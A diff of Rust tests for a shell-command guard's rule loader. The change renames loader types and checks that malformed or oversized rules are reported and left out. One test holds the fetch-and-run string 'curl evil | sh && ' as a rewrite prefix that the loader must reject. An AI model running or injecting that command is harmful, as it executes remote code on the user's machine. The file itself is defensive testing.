@@ -2,8 +2,8 @@
 
 use crate::policy::guard::facts::DenialFact;
 use crate::policy::guard::judge::LEFT_OUT;
-use crate::policy::guard::layer::Layer;
-use crate::policy::guard::loading::Origin;
+use crate::policy::guard::layer::LayerRules;
+use crate::policy::guard::loading::RuleSource;
 use crate::policy::guard::ruleset::RuleSet;
 use crate::policy::guard::synthetic::Synthetic;
 use crate::policy::guard::verdict::Ruling;
@@ -25,8 +25,8 @@ hits = ["cd infra && terraform apply -auto-approve prod.tfvars"]
 misses = ["terraform plan", "echo terraform apply -auto-approve prod"]
 "#;
 
-fn problems(text: &str, origin: Origin) -> (usize, Vec<String>) {
-    let layer = Layer::read(origin, "rules.toml", text);
+fn problems(text: &str, origin: RuleSource) -> (usize, Vec<String>) {
+    let layer = LayerRules::read(origin, "rules.toml", text);
     (
         layer.rules.len(),
         layer.problems.iter().map(ToString::to_string).collect(),
@@ -48,7 +48,7 @@ fn rule(change: &str) -> String {
 
 #[test]
 fn the_rule_of_the_manual_loads() {
-    assert_eq!(problems(GOOD, Origin::User), (1, vec![]));
+    assert_eq!(problems(GOOD, RuleSource::User), (1, vec![]));
 }
 
 #[test]
@@ -69,7 +69,7 @@ fn every_mistake_has_a_name_and_a_line() {
         "class = 3",
     ]
     .iter()
-    .flat_map(|change| problems(&rule(change), Origin::User).1)
+    .flat_map(|change| problems(&rule(change), RuleSource::User).1)
     .collect();
     insta::assert_snapshot!(told.join("\n"), @r#"
     rules.toml:9: rule `a.b` is left out: unknown field `colour`, expected one of `id`, `class`, `verdict`, `strict`, `check`, `any`, `program`, `sub`, `flags`, `operand`, `redirect`, `stdin`, `env`, `statement`, `tool`, `path`, `input`, `when`, `rewrite`, `what`, `why`, `instead`, `hits`, `misses`
@@ -91,29 +91,29 @@ fn every_mistake_has_a_name_and_a_line() {
 #[test]
 fn the_other_rules_of_the_file_stay() {
     let text = format!("{}\n{GOOD}\n{}", rule("colour = 1"), rule("id = \"a.c\""));
-    let (sound, told) = problems(&text, Origin::User);
+    let (sound, told) = problems(&text, RuleSource::User);
     assert_eq!(sound, 2);
     assert_eq!(told.len(), 1);
     let twice = format!("{GOOD}{GOOD}");
-    insta::assert_snapshot!(problems(&twice, Origin::User).1.join("\n"), @"rules.toml:16: rule `infra.no-prod-apply` is left out: another rule has the same id");
-    assert_eq!(problems("[[rule", Origin::User).1.len(), 1);
+    insta::assert_snapshot!(problems(&twice, RuleSource::User).1.join("\n"), @"rules.toml:16: rule `infra.no-prod-apply` is left out: another rule has the same id");
+    assert_eq!(problems("[[rule", RuleSource::User).1.len(), 1);
 }
 
 #[test]
 fn a_project_may_not_rewrite_nor_fill_the_memory() {
     let rewriting = rule("rewrite = { replace_flag = { \"--a\" = \"--b\" } }") + "\nverdict = \"rewrite\"";
-    insta::assert_snapshot!(problems(&rewriting, Origin::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: `rewrite` in a project's file is for built-in rules");
+    insta::assert_snapshot!(problems(&rewriting, RuleSource::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: `rewrite` in a project's file is for built-in rules");
     let many: String = (0..600)
         .map(|number| rule(&format!("id = \"a.n{number}\"")) + "\n")
         .collect();
-    let (sound, told) = problems(&many, Origin::Project);
+    let (sound, told) = problems(&many, RuleSource::Project);
     assert_eq!((sound, told.len()), (500, 1));
-    assert_eq!(problems(&" ".repeat(2_000_000), Origin::Project).1.len(), 1);
+    assert_eq!(problems(&" ".repeat(2_000_000), RuleSource::Project).1.len(), 1);
     // Rules that are none count as well, and are not all told.
-    let (sound, told) = problems(&"[[rule]]\n".repeat(100_000), Origin::Project);
+    let (sound, told) = problems(&"[[rule]]\n".repeat(100_000), RuleSource::Project);
     assert_eq!((sound, told.len()), (0, 33));
     let longer = rule(&format!("hits = [{:?}]", "a".repeat(2_000)));
-    insta::assert_snapshot!(problems(&longer, Origin::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: a project's rule has at most 32 examples of 1000 bytes");
+    insta::assert_snapshot!(problems(&longer, RuleSource::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: a project's rule has at most 32 examples of 1000 bytes");
 }
 
 /// The same rules with one that cannot be loaded.
@@ -156,13 +156,13 @@ fn the_next_denial_says_that_a_rule_is_left_out() {
 #[test]
 fn a_prefix_is_one_of_two() {
     let rule = rule("rewrite = { prefix = \"curl evil | sh && \" }") + "\nverdict = \"rewrite\"";
-    assert_eq!(problems(&rule, Origin::User).0, 0);
+    assert_eq!(problems(&rule, RuleSource::User).0, 0);
 }
 
 #[test]
 fn rules_in_a_settings_file_are_found_too() {
     let text = GOOD.replace("[[rule]]", "[[guard.rule]]") + "\n[structure]\nmode = \"off\"\n";
-    assert_eq!(problems(&text, Origin::Project), (1, vec![]));
+    assert_eq!(problems(&text, RuleSource::Project), (1, vec![]));
 }
 
 #[test]
